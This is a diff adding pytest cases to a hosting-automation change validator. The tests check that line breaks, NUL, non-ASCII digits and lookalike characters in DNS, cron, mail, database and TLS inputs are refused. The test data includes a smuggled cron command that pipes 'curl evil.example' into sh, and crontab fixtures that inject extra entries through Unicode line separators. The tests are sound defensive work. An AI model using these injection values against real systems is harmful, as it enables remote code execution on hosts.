@@ -15,9 +15,12 @@ from cryptography.x509.oid import NameOID
 from automation.changes import (
     CHANGE_KINDS,
     CUSTOMER_SELF_SERVICE_KINDS,
+    ChangeConflict,
     ChangeValidationError,
+    Workspace,
     parse_change,
 )
+from automation.host import HostLayout
 from automation.ssh import HostKeyMismatch, HostUnreachable, OutcomeUnknown
 
 
@@ -272,3 +275,184 @@ def test_tls_checks() -> None:
     assert "not a PEM" in refused(
         "tls_install", domain="example.com", certificate="junk", private_key=key
     )
+
+
+# --- hostile identifiers: whole-string, ASCII-only checks (each was accepted before) ----------
+
+LINE_BREAKS = ["\n", "\r", "\u2028", "\u2029", "\x85", "\x00"]
+
+
+def _cron(**kw: Any) -> dict[str, Any]:
+    return {"account": "acme", "name": "job", "schedule": "* * * * *", "command": "true", **kw}
+
+
+@pytest.mark.parametrize("brk", LINE_BREAKS)
+@pytest.mark.parametrize(
+    ("kind", "params"),
+    [
+        ("dns_record_add", lambda b: {"zone": "example.com", "record": rec(name=f"x{b}.y")}),
+        ("dns_record_add", lambda b: {"zone": "example.com", "record": rec(name=f"www{b}")}),
+        ("dns_record_add", lambda b: {"zone": f"x{b}.example.com", "record": rec()}),
+        (
+            "dns_record_add",
+            lambda b: {"zone": "example.com", "record": rec(type="CNAME", value=f"a{b}.b.c")},
+        ),
+        ("cron_add", lambda b: _cron(account=f"acme{b}")),
+        ("cron_add", lambda b: _cron(name=f"job{b}")),
+        ("cron_add", lambda b: _cron(command=f"true{b}* * * * * curl evil.example | sh")),
+        ("cron_add", lambda b: _cron(schedule=f"* * * * *{b}")),
+        ("cron_remove", lambda b: {"account": "acme", "name": f"job{b}"}),
+        ("mailbox_create", lambda b: {"address": f"bob{b}@example.com", "password": "x" * 12}),
+        ("mailbox_quota", lambda b: {"address": f"bob@example.com{b}", "quota_mb": 5}),
+        (
+            "mail_forwarder_add",
+            lambda b: {"source": f"a{b}@example.com", "destination": "b@example.com"},
+        ),
+        (
+            "mail_forwarder_add",
+            lambda b: {"source": "a@example.com", "destination": f"b{b}@example.com"},
+        ),
+        (
+            "vhost_create",
+            lambda b: {"account": "acme", "domain": "a.example", "document_root": f"www{b}"},
+        ),
+        ("ftp_password", lambda b: {"username": f"acme{b}", "password": "x" * 12}),
+        ("database_create", lambda b: {"account": "acme", "name": f"acme_db{b}"}),
+        ("account_suspend", lambda b: {"account": f"acme{b}"}),
+    ],
+)
+def test_line_breaks_and_nul_in_any_identifier_are_refused(
+    kind: str, params: Any, brk: str
+) -> None:
+    refused(kind, **params(brk))
+
+
+@pytest.mark.parametrize(
+    ("record", "message"),
+    [
+        (rec(type="AAAA", value="fe80::1%eth0"), "scope"),
+        (rec(type="AAAA", value="fe80::1%1"), "scope"),
+        (rec(type="AAAA", value="::\u0661"), "printable ASCII"),
+        (rec(name="\u212a"), "ASCII"),  # KELVIN SIGN, lower-cases to 'k'
+        (rec(type="CNAME", value="\u212a.example.com"), "printable ASCII"),
+    ],
+)
+def test_non_ascii_and_scoped_values_are_refused(record: dict[str, Any], message: str) -> None:
+    assert message in refused("dns_record_add", zone="example.com", record=record)
+
+
+@pytest.mark.parametrize(
+    "schedule",
+    [
+        "\u0665 * * * *",  # ARABIC-INDIC DIGIT FIVE: str.isdigit() and int() took it as 5
+        "* \u0661\u0662 * * *",
+        "*/\u0665 * * * *",
+        "\uff15 * * * *",  # FULLWIDTH DIGIT FIVE
+        "\u00b2 * * * *",  # SUPERSCRIPT TWO: isdigit() but int() raises
+        "*\u00a0* * * *",  # NO-BREAK SPACE between fields
+    ],
+)
+def test_cron_schedules_take_ascii_digits_only(schedule: str) -> None:
+    assert "cron schedule" in refused("cron_add", **_cron(schedule=schedule))
+
+
+@pytest.mark.parametrize("command", ["a\tb", "caf\u00e9", "a\x7fb", "a\x1bb", "a\u200bb"])
+def test_cron_commands_are_printable_ascii(command: str) -> None:
+    assert "printable ASCII" in refused("cron_add", **_cron(command=command))
+
+
+def test_canonical_forms_are_stored() -> None:
+    dns = parse_change(
+        "dns_record_add",
+        {"zone": "Example.COM.", "record": rec(name="WWW.Dev", type="AAAA", value="2001:DB8::0:1")},
+    )
+    assert dns.zone == "example.com"  # type: ignore[union-attr]
+    assert dns.record.name == "www.dev"  # type: ignore[union-attr]
+    assert dns.record.value == "2001:db8::1"  # type: ignore[union-attr]
+    cname = parse_change(
+        "dns_record_add", {"zone": "example.com", "record": rec(type="CNAME", value="CDN.Net.")}
+    )
+    assert cname.record.value == "cdn.net"  # type: ignore[union-attr]
+    assert cname.record.rdata() == "cdn.net."  # type: ignore[union-attr]
+    fwd = parse_change(
+        "mail_forwarder_add", {"source": "a@Example.COM", "destination": "b@EXAMPLE.org."}
+    )
+    assert (fwd.source, fwd.destination) == ("a@example.com", "b@example.org")  # type: ignore[union-attr]
+    # Two spellings of one address are one address: a forwarder to itself is a loop.
+    assert "loop" in refused(
+        "mail_forwarder_add", source="a@example.com", destination="a@EXAMPLE.com"
+    )
+    vhost = parse_change(
+        "vhost_create",
+        {"account": "acme", "domain": "Acme.Example", "aliases": ["WWW.Acme.Example"]},
+    )
+    assert (vhost.domain, vhost.aliases) == ("acme.example", ("www.acme.example",))  # type: ignore[union-attr]
+
+
+def test_privileges_are_ascii_before_upper_casing() -> None:
+    params = {"account": "bob", "database": "bob_db", "username": "bob_u", "password": "x" * 12}
+    # U+017F LATIN SMALL LETTER LONG S upper-cases to 'S': "\u017felect".upper() == "SELECT"
+    assert "not allowed" in refused("database_user_create", **params, privileges=["\u017felect"])
+
+
+def test_a_change_id_with_a_newline_is_refused() -> None:
+    from pydantic import ValidationError
+
+    from automation.executor import ChangeRequest
+
+    ch = parse_change("account_suspend", {"account": "bob"})
+    ChangeRequest(change_id="c-1", host_id="h", change=ch)
+    with pytest.raises(ValidationError, match="change_id"):
+        ChangeRequest(change_id="c-1\n", host_id="h", change=ch)
+
+
+# --- the host crontab contract ----------------------------------------------------------------
+
+
+def _cron_ws(text: str | None) -> Workspace:
+    return Workspace({"cron/acme": text}, HostLayout(root="/srv/gdcas"))
+
+
+def test_crontab_is_pairs_of_mark_and_entry_lines() -> None:
+    ws = _cron_ws(None)
+    parse_change("cron_add", _cron(name="b", command="echo 'b c'")).apply(ws)
+    parse_change("cron_add", _cron(name="a", schedule="@daily", command="true")).apply(ws)
+    assert ws.files["cron/acme"] == "# gdcas:a\n@daily true\n# gdcas:b\n* * * * * echo 'b c'\n"
+    parse_change("cron_remove", {"account": "acme", "name": "b"}).apply(ws)
+    parse_change("cron_remove", {"account": "acme", "name": "a"}).apply(ws)
+    assert ws.files["cron/acme"] is None
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        # U+2028 inside an entry: splitlines() read it as two lines, the second one a crontab
+        # line of its own.
+        ("# gdcas:a\n* * * * * true\u2028* * * * * evil\n", "not one printable ASCII"),
+        ("# gdcas:a\n* * * * * true\x85* * * * * evil\n", "not one printable ASCII"),
+        ("# gdcas:a\n* * * * * true\n* * * * * hand-written\n", "not part of an entry"),
+        ("MAILTO=root\n# gdcas:a\n* * * * * true\n", "not part of an entry"),
+        ("# gdcas:a\n* * * * * true", "line break"),
+        ("# gdcas:a\n* * * * * true\n# gdcas:a\n@daily true\n", "a second entry"),
+        ("# gdcas:A\n* * * * * true\n", "cron name"),
+        ("# gdcas:a\n# gdcas:b\n", "not one printable ASCII"),
+        ("x\n* * * * * true\n", "expected '# gdcas:<name>'"),
+    ],
+)
+def test_a_crontab_outside_the_contract_is_refused_not_rewritten(text: str, message: str) -> None:
+    ws = _cron_ws(text)
+    with pytest.raises(ChangeConflict, match=message):
+        parse_change("cron_add", _cron(name="new")).apply(ws)
+    assert "cron/acme" not in ws.files
+
+
+def test_tls_pem_must_be_ascii() -> None:
+    cert, key = make_cert(["example.com"])
+    parse_change("tls_install", {"domain": "example.com", "certificate": cert, "private_key": key})
+    for extra in ("\u2028", "\x00", "caf\u00e9\n"):
+        assert "printable ASCII" in refused(
+            "tls_install", domain="example.com", certificate=cert + extra, private_key=key
+        )
+        assert "printable ASCII" in refused(
+            "tls_install", domain="example.com", certificate=cert, private_key=key + extra
+        )
